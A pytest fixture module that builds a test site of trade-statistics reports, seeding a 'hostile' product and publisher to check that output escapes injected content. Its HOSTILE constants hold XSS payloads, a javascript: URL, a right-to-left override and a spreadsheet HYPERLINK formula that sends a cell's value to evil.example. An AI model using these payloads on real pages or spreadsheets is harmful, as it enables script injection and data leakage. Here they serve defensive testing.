"""A site of seven editions of four products, one hostile and one simulated, and a browser that opens files alone."""

import os
import shutil
from pathlib import Path

import pytest
from filelock import FileLock

from helpers import paths
from tests.conftest import command, portal, row

# every way out of a text that a page, a feed, a spreadsheet or a link could offer
HOSTILE = "Evil\"'><script>document.title='owned';alert(1)</script><img src=x onerror=alert(2)>\u202egnp\u202c"
HOSTILE_URL = "javascript:alert('url')"
FORMULA = '=HYPERLINK("http://evil.example/"&A1,"x")'
ARTICLE = f"""{HOSTILE}

In June 2025 China exported 353 tonnes of rare earth magnets to the United States, up 660 percent from May. {FORMULA}
Exports to Germany rose to 764 tonnes, said [a trader]({HOSTILE_URL}); {HOSTILE} total exports fell 38.1% on the year.
"""
MAGNETS = "rare-earth-magnets"
LIST = f"""
- {{product: {MAGNETS}, period: [2025-06, 2025-07, 2025-08]}}
- {{product: rare-earths}}
- {{product: evil, period: 2025-06}}
- {{product: trial, period: 2025-07}}
"""


def _quoted(*texts: str) -> str:
    return ",".join('"' + text.replace('"', '""') + '"' for text in texts)


def _add_product(data: Path, name: str, code: str, goods: str, partner: str = "") -> None:
    """A product of which a download holds nineteen months of three partners, under the names given."""
    with (data / "reference" / "products.csv").open("a") as file:
        file.write(f"{name},{_quoted(f'Title {goods}', goods)},{code},export,CHN,JPN,{_quoted(f'@scope {goods}')}\n")
    rows = [
        row(f"{year}{month:02}", code=code, partner=number, kg=str(1000 * month + year), name=partner)
        for year in (2024, 2025)
        for month in range(1, 13)
        for number in ("502", "304", "408")
        if (year, month) <= (2025, 7)
    ]
    for line in rows:
        line[2] = goods.replace('"', "“")  # the portal quotes every field and doubles no quote
    (data / f"{name}.csv").write_bytes(portal(rows))
    words = ("--flow", "export", "--vintage", "2025-08-20", "--partners", "all")
    done = command("intake", str(data / f"{name}.csv"), *words, data=data)
    assert done.returncode == 0, done.stdout + done.stderr


def _add_hostile_publisher(data: Path) -> None:
    """A printed figure and a printed statement whose publisher is a formula and whose address is a script."""
    (press,) = data.glob("raw/press/*/published_figures.csv")
    titles = _quoted(FORMULA + HOSTILE, "2025-08-21", HOSTILE_URL)
    with press.open("a") as file:
        file.write(f"2025-06,2025-06,CHN,DEU,export,12019090,evil,net_mass_t,8,1,{titles},\n")
    with (press.parent / "published_claims.csv").open("a") as file:
        file.write(f"2025-06,2025-06,CHN,JPN,export,12019090,evil,share_pct,12.5,,0.1,{titles},\n")
    source = press.parent / "source.yml"
    source.write_text(source.read_text().replace("rows: 717", "rows: 718").replace("rows: 341", "rows: 342"))


def build(root: Path) -> Path:
    """Reports of the shipped figures for three months and two vintages, of another product, and of two made up here.

    Returns:
        The folder of the reports; pages that are no part of a site lie in ``pages`` beside it.
    """
    data, reports, pages = root / "data", root / "reports", root / "pages"
    pages.mkdir(parents=True)
    shutil.copytree(paths.REFERENCE, data / "reference")
    shutil.copytree(paths.RAW, data / "raw")
    (data / "reference" / "corrections.yml").write_text("[]\n")
    _add_product(data, "evil", "12019090", f"goods {HOSTILE}", HOSTILE.replace('"', "“"))
    _add_product(data, "trial", "12019010", "simulated soy beans")
    _add_hostile_publisher(data)
    (root / "list.yml").write_text(LIST)
    (root / "article.txt").write_text(ARTICLE)
    old = f"{MAGNETS}/2025-06/2025-07-21"
    runs = [
        ["report", "2025-06", "--vintage", "2025-07-21", "--jobs", "2", "--pdf"],
        ["report", "--list", str(root / "list.yml"), "--jobs", "2"],
        ["diff", old, f"{MAGNETS}/2025-06/2026-11-23", "--page", str(pages / "diff.html")],
        ["check", str(root / "article.txt"), "--url", HOSTILE_URL, "--html", str(pages / "article.html")],
    ]
    for words in runs:
        done = command(*words, data=data, reports=reports)
        assert done.returncode == 0, done.stdout + done.stderr
    return reports


@pytest.fixture(scope="session")
def built(tmp_path_factory) -> Path:
    """The site, built once for all processes; ``LODESTONE_TEST_SITE`` names one built before, to try a test against."""
    if kept := os.environ.get("LODESTONE_TEST_SITE"):
        return Path(kept)
    shared = tmp_path_factory.getbasetemp()
    shared = shared.parent if "PYTEST_XDIST_WORKER" in os.environ else shared
    with FileLock(shared / "site.lock"):
        if not (shared / "site").exists():
            build(shared / "site-begun").parent.rename(shared / "site")
    return shared / "site" / "reports"


@pytest.fixture(scope="session")
def browser():
    from playwright.sync_api import sync_playwright

    from helpers import pdf

    with sync_playwright() as play:
        one = play.chromium.launch(executable_path=pdf.chromium(), args=["--no-sandbox"])
        yield one
        one.close()
